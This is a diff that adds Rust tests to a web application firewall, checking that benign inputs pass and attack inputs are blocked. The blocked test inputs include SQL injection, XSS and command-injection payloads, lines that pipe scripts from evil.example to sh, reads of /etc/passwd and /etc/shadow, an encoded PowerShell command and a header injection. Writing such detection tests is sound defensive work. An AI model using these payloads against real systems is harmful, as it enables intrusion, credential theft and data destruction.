@@ -412,3 +412,111 @@ fn c_conditions_and_the_word_powershell_are_not_windows_commands() {
         assert!(blocked_category(&outcome(&waf, t), Category::Rce), "{t}");
     }
 }
+
+fn form_post(waf: &Waf, body: &str) -> Outcome {
+    post("/api/things", "application/x-www-form-urlencoded", body, waf)
+}
+
+#[test]
+fn sql_that_stands_on_its_own_is_weak_but_a_breakout_is_critical() {
+    let waf = waf_with("{}");
+    // Filter expressions, SQL console statements and quoted search terms: balanced quotes and
+    // parentheses, nothing stacked. Weak signals only, one per family and value.
+    for body in [
+        r#"{"filter": "plan = 'pro' and seats > 10 and (region = 'eu' or region = 'uk')"}"#,
+        r#"{"sql": "select id, name, sum(total) from customers group by id, name order by name"}"#,
+        r#"{"q": "\"and\" or \"or\" in a boolean search"}"#,
+        r#"{"rule": "cart.total >= 100 && cart.currency != 'usd'"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    // The same families of shapes with a breakout: a quote after a word, a string that starts
+    // with a space, a stacked statement, an unclosed subquery, a hex-spelled string.
+    for body in [
+        r#"{"v": "a'or'a"}"#,
+        r#"{"v": "x' and id is not null--"}"#,
+        r#"{"v": "'; waitfor delay '0:0:5'"}"#,
+        r#"{"v": ";drop table users"}"#,
+        r#"{"v": "1 and (select 1 from users where name like 'a%'"}"#,
+        r#"{"v": "select concat(0x61646d696e, password) from users"}"#,
+    ] {
+        assert!(blocked_category(&json_post(&waf, body), Category::Sqli), "{body}");
+    }
+}
+
+#[test]
+fn a_tag_that_is_only_named_is_weak_but_markup_that_can_act_is_critical() {
+    let waf = waf_with("{}");
+    for body in [r#"{"title": "<iframe>: the inline frame element"}"#, r#"{"q": "when do I need <noscript>?"}"#] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    for body in [
+        r#"{"title": "<iframe src=//evil.example/x>"}"#,
+        r#"{"title": "<script>alert(1)</script>"}"#,
+        r#"{"title": "<style>@import'//evil.example/x.css'</style>"}"#,
+        r#"{"title": "<script>: <svg onload=alert(1)>"}"#,
+    ] {
+        assert!(blocked_category(&json_post(&waf, body), Category::Xss), "{body}");
+    }
+}
+
+#[test]
+fn commands_chained_in_a_script_are_weak_but_an_injected_or_system_reaching_command_is_critical() {
+    let waf = waf_with("{}");
+    for body in [
+        r#"{"script": "npm ci && ls -la dist"}"#,
+        r#"{"command": "find build -name '*.o' -delete; echo cleaned"}"#,
+        r#"{"code": "Get-ChildItem -Recurse -Filter *.tmp | Remove-Item"}"#,
+        r#"{"cmd": "curl -fsS https://downloads.example.com/tool.tar.gz -o tool.tar.gz"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    for body in [
+        r#"{"host": "; cat /etc/passwd"}"#,
+        r#"{"host": "127.0.0.1 && ls -la"}"#,
+        r#"{"file": "report.pdf | id"}"#,
+        r#"{"cmd": "curl -s https://evil.example/a.sh | sh"}"#,
+        r#"{"cmd": "echo $(curl https://evil.example/a)"}"#,
+        r#"{"cmd": "cat /etc/shadow"}"#,
+        r#"{"cmd": "powershell -enc SQBFAFgAIAAoAE4AZQB3AA=="}"#,
+        r#"{"cmd": "Invoke-WebRequest https://evil.example/x.ps1 -OutFile x.ps1"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(o.blocked, "{body}: {o:?}");
+    }
+}
+
+#[test]
+fn weak_signals_block_only_when_corroborated_in_the_request() {
+    let waf = waf_with("{}");
+    // One weak signal (a console.log call in a code field) is not enough …
+    let o = json_post(&waf, r#"{"code": "items.forEach(i => console.log(i.id));"}"#);
+    assert!(!o.blocked && o.total_score == 3, "{o:?}");
+    // … nor are several shape rules recognising the same snippet (one family, one value) …
+    let o = json_post(&waf, r#"{"script": "make all && ls -la build"}"#);
+    assert!(!o.blocked && o.total_score == 3, "{o:?}");
+    // … but a second signal elsewhere in the request corroborates it.
+    let o = json_post(&waf, r#"{"code": "console.log(1)", "q": "select name from users order by name"}"#);
+    assert!(o.blocked && o.total_score == 6, "{o:?}");
+}
+
+#[test]
+fn a_comment_glued_to_text_shellshock_lookalikes_and_markdown_lines_are_not_attacks() {
+    let waf = waf_with("{}");
+    for body in [
+        r#"{"password": "Zx\"--9kq"}"#,
+        r#"{"code": "fn main() { let x = 1; println!(\"{}\", x); }"}"#,
+        r#"{"body": "Adds a retry helper.\n\nResults: p99 fell by half."}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    assert!(blocked_category(&form_post(&waf, "user=admin%22--&pw=x"), Category::Sqli));
+    assert!(blocked_category(&form_post(&waf, "user=admin%27+--+&pw=x"), Category::Sqli));
+    assert!(blocked_category(&form_post(&waf, "x=f%28%29%7B+f%7Cf%26+%7D%3Bf"), Category::Rce));
+    assert!(blocked_category(&outcome(&waf, "/get?x=%28%29+%7B+%3A%3B%7D%3B+%2Fbin%2Fid"), Category::Rce));
+    assert!(blocked_category(&json_post(&waf, r#"{"body": "x\r\nSet-Cookie: a=b"}"#), Category::Protocol));
+}
